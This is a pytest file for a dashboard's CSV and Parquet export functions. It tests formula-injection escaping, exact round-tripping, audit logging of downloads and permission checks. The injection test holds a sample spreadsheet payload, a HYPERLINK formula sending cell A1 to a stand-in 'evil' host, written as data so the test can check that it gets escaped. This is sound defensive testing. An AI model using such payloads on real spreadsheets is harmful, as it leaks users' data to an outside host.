"""Exports: a CSV that spreadsheets can open safely and that loses nothing, and a Parquet that is exact."""

import ast
import csv
import io
import json
from datetime import UTC, datetime

import polars as pl
import pytest
import streamlit as st_
from hypothesis import given
from hypothesis import strategies as st
from page_driver import APP, store_for_pages
from polars.testing import assert_frame_equal
from signing_in import ADMIN, VIEWER, come, signing_in
from streamlit.testing.v1 import AppTest

from dashboard.ui import export
from store import audit, operators
from store.errors import Forbidden

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def read(content: bytes) -> list[list[str]]:
    """What a spreadsheet reads: the standard library's reader, which is not the writer under test."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", STARTS)
def test_a_cell_that_begins_like_a_formula_is_text(start):
    harmful = f'{start}HYPERLINK("http://evil?"&A1)'
    rows = read(export.csv_bytes(pl.DataFrame({start + "name": [harmful, f"  {harmful}"]})))
    assert rows == [[f"'{start}name"], [f"'{harmful}"], [f"'  {harmful}"]]


def test_numbers_times_and_lists_are_written_as_they_are():
    frame = pl.DataFrame(
        {
            "n": [-1, None], "x": [-0.5, 1e-9], "yes": [True, False],
            "at": pl.Series([datetime(2026, 11, 20, 12, 0, 0, 5, tzinfo=UTC), None], dtype=pl.Datetime("us", "UTC")),
            "list": [["=1", "é"], []], "record": [{"a": 1}, {"a": None}], "text": ["a,b\n\"c\"", None],
        }
    )  # fmt: skip
    head, first, second = read(export.csv_bytes(frame))
    assert head == frame.columns
    assert first[:4] == ["-1", "-0.5", "true", "2026-11-20T12:00:00.000005Z"]
    assert json.loads(first[4]) == ["=1", "é"]
    assert json.loads(first[5]) == {"a": 1}
    assert first[6] == 'a,b\n"c"'
    assert float(second[1]) == 1e-9
    assert second[3] == ""


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=30), min_size=1, max_size=20))
def test_no_cell_is_a_formula_and_no_text_is_lost(texts):
    # A row of one empty cell cannot be told from an empty line.
    frame = pl.DataFrame({"text": texts, "end": ["x"] * len(texts)})
    cells = [row[0] for row in read(export.csv_bytes(frame))[1:]]
    assert not any(cell.lstrip().startswith(STARTS) for cell in cells)
    for cell, text in zip(cells, texts, strict=True):
        assert cell == text or cell == f"'{text}"


def test_parquet_is_exact():
    frame = pl.DataFrame({"text": ["=1", None], "list": [[1.5], []]})
    assert_frame_equal(pl.read_parquet(io.BytesIO(export.parquet_bytes(frame))), frame)


def test_an_empty_table_has_its_header():
    assert read(export.csv_bytes(pl.DataFrame(schema={"a": pl.String(), "b": pl.Int64()}))) == [["a", "b"]]


@pytest.fixture
def signed(tmp_path, monkeypatch):
    """A store whose pages need sign-in, with an operator of each role; a viewer is there."""
    with store_for_pages(tmp_path / "trimtab.duckdb") as opened:
        signing_in(opened, monkeypatch)
        come(monkeypatch, VIEWER)
        yield opened


def buttons(monkeypatch, frame):
    """What each of the two buttons does when it is pressed, by its label; nothing is pressed yet."""
    drawn = {}
    monkeypatch.setattr(st_, "download_button", lambda label, data, *_, **__: drawn.setdefault(label, data))
    export.download(frame, "Users of shop", "users")
    return drawn


def logged(store):
    rows = audit.recent(store, 1000).filter(pl.col("action") == "export").reverse().iter_rows(named=True)
    return [(row["actor"], row["subject"], json.loads(row["detail"])) for row in rows]


def test_each_download_is_a_row_in_the_audit_log(signed, monkeypatch):
    read = []
    frame = pl.DataFrame({"user": ["a", "b", "c"]})
    drawn = buttons(monkeypatch, lambda: read.append(1) or frame)
    assert (read, logged(signed)) == ([], [])
    assert_frame_equal(pl.read_parquet(io.BytesIO(drawn["Parquet"]())), frame)
    drawn["CSV"]()
    drawn["CSV"]()
    csv_row = (VIEWER, "Users of shop", {"format": "CSV", "rows": 3})
    assert logged(signed) == [(VIEWER, "Users of shop", {"format": "Parquet", "rows": 3}), csv_row, csv_row]


def test_the_files_of_a_table_that_is_one_page_hold_all_of_it(signed, monkeypatch):
    drawn = {}
    monkeypatch.setattr(st_, "download_button", lambda label, data, *_, **__: drawn.setdefault(label, data))
    everything = pl.DataFrame({"user": ["a", "b", "c"]})
    export.table("rates", everything.head(1), whole=lambda: everything)
    assert_frame_equal(pl.read_parquet(io.BytesIO(drawn["Parquet"]())), everything)
    assert logged(signed)[0][2]["rows"] == 3


def test_a_text_that_leaves_is_a_row_in_the_audit_log_too(signed, monkeypatch):
    drawn = {}
    monkeypatch.setattr(st_, "download_button", lambda label, data, *_, **__: drawn.setdefault(label, data))
    export.text("trace t-1", "user: é", rows=4, file_name="trace-t-1.txt", key="copy")
    assert logged(signed) == []
    assert drawn["Download"]() == "user: é".encode()
    assert logged(signed) == [(VIEWER, "trace t-1", {"format": "text", "rows": 4})]
    operators.remove(signed, VIEWER, operator="Ada")
    with pytest.raises(Forbidden):
        drawn["Download"]()


def test_what_is_refused_or_cannot_be_noted_gives_no_file(signed, monkeypatch):
    drawn = buttons(monkeypatch, pl.DataFrame({"user": ["a"]}))
    operators.remove(signed, VIEWER, operator="Ada")
    with pytest.raises(Forbidden):
        drawn["CSV"]()
    assert logged(signed) == []
    come(monkeypatch, ADMIN)
    drawn = buttons(monkeypatch, pl.DataFrame({"user": ["a"]}))
    monkeypatch.setattr(audit, "append", lambda *_: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        drawn["CSV"]()


# Tables drawn without `export.table`, and why: what gives them as a file instead, or why nobody would want one.
TABLES = {
    "audit/panel.py _table": "its own downloads hold all rows, with what the hashes are made of",
    "drift/incident.py _affected_table": "its caller gives the whole list of those affected",
    "intake/batches.py _table": "its caller gives all batches",
    "lessons/payoff.py _table": "its caller gives the payoffs with all their columns",
    "trace/listing.py table": "its caller gives all traces of the filters, not only the page shown",
    "users/listing.py table": "its caller gives all users, not only the page shown",
    "feel/keys.py _table": "the keys of the dashboard itself, no data",
    "intake/preview.py preview": "the operator's own file before it is loaded: no data of the store",
    "intake/mapping_editor.py _meanings": "what our own names mean, no data",
    "intake/mapping_editor.py _edit_lines": "a form, whose mapping is a TOML file to download",
    "intake/mapping_editor.py _edit_values": "a form, whose mapping is a TOML file to download",
}
DRAWING = {"st.dataframe", "st.table", "st.data_editor"}


def test_every_table_can_be_had_as_a_file():
    alone, downloading = set(), set()
    for path in APP.parent.rglob("*.py"):
        place = path.relative_to(APP.parent).as_posix()
        for function in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(function, ast.FunctionDef) and place != "ui/export.py":
                calls = {ast.unparse(one.func) for one in ast.walk(function) if isinstance(one, ast.Call)}
                if calls & DRAWING and "export.download" not in calls:
                    alone.add(f"{place} {function.name}")
                if calls & {"export.download", "download"}:
                    downloading.add(place)
    assert alone == set(TABLES), "draw them by export.table, or say in TABLES why not"
    for name in TABLES:
        assert name.split(" ")[0] in downloading or "no data" in TABLES[name] or "a form" in TABLES[name], name


def _two_tables(same):
    import polars as pl

    from dashboard.ui import export

    export.table("Käufe, 2026", pl.DataFrame({"a": [1]}), hide_index=True)
    export.table("x", pl.DataFrame({"a": [1]}), key="other" if not same else None)


def test_a_table_brings_its_downloads(tmp_path):
    with store_for_pages(tmp_path / "trimtab.duckdb"):
        app = AppTest.from_function(_two_tables, args=(False,)).run()
    assert not app.exception
    files = [button.proto.label for button in app.get("download_button")]
    assert files == ["CSV", "Parquet"] * 2
    assert [button.key for button in app.get("download_button")] == [
        "k-ufe-2026-export-csv", "k-ufe-2026-export-parquet", "other-export-csv", "other-export-parquet",
    ]  # fmt: skip
    assert [frame.value["a"].tolist() for frame in app.dataframe] == [[1], [1]]
